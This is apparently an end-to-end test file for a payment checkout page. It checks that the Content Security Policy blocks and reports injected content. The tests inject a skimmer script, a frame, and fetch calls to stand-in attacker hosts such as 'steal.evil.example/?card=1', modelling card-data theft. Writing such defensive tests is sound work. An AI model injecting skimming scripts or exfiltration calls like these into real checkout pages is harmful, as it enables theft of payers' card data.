/// <reference lib="dom" />
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { reviewItemListSchema } from '../../../src/shared/contract/review-item.ts'
import { newCharge } from '../../builders/banks/pix-charges.ts'
import { takeCards } from '../../builders/cards/store-with-cards.ts'
import { bodyOf } from '../../harness/api-client.ts'
import { openBrowser, screens, type TestBrowser } from '../../harness/browser.ts'
import { shareWorld, type World } from '../../harness/world.ts'

/** What Chromium makes of our policies' endpoints: docs/decisions/0050. */
let world: World
let browser: TestBrowser
beforeAll(async () => {
  ;[world, browser] = await Promise.all([shareWorld(), openBrowser()])
  await takeCards(world)
})
afterAll(async () => {
  await browser?.close()
  await world?.close()
})

async function openPage(): Promise<Page> {
  const order = { amount: 12990, methods: ['pix', 'credit-card'], pay_with: { method: 'pix' } }
  const { checkout_url } = await newCharge(world.store, order)
  const page = await browser.open(checkout_url, screens.phone)
  await page.locator('html[data-alive]').waitFor({ state: 'attached' })
  return page
}

async function details(): Promise<string[]> {
  return bodyOf(await world.store.api.get('/v1/review-items'), 200, reviewItemListSchema).data.map(item => item.detail)
}

const isFound = (text: string) =>
  expect.poll(details, { timeout: 20_000 }).toContainEqual(expect.stringContaining(text))

it('a script, a frame and a connection put into the page are stopped, reported and put before a person', async () => {
  const page = await openPage()
  await page.evaluate(() => {
    const add = (name: 'script' | 'iframe', src: string) =>
      document.body.append(Object.assign(document.createElement(name), { src }))
    add('script', 'https://script.evil.example/skim.js?secret=1')
    add('iframe', 'https://frame.evil.example/form')
    void fetch('https://steal.evil.example/?card=1').catch(() => undefined)
  })
  await isFound('The payer’s page: the policy stopped a script (script-src-elem) from https://script.evil.example.')
  await isFound('The payer’s page: the policy stopped a frame (frame-src) from https://frame.evil.example.')
  await isFound('The payer’s page: the policy stopped a connection (connect-src) from https://steal.evil.example.')
  await page.context().close()
})

it('what the card form’s policy stopped is reported from its own origin', async () => {
  const page = await openPage()
  await page.locator('[name=method][value=card]').check()
  await page.frameLocator('iframe').locator('[autocomplete=cc-number]').waitFor()
  const form = page.frames().find(frame => frame.url().startsWith(world.fieldsUrl))
  await form?.evaluate(() => void fetch('https://form.evil.example/').catch(() => undefined))
  await isFound('The card form: the policy stopped a connection (connect-src) from https://form.evil.example.')
  await page.context().close()
})
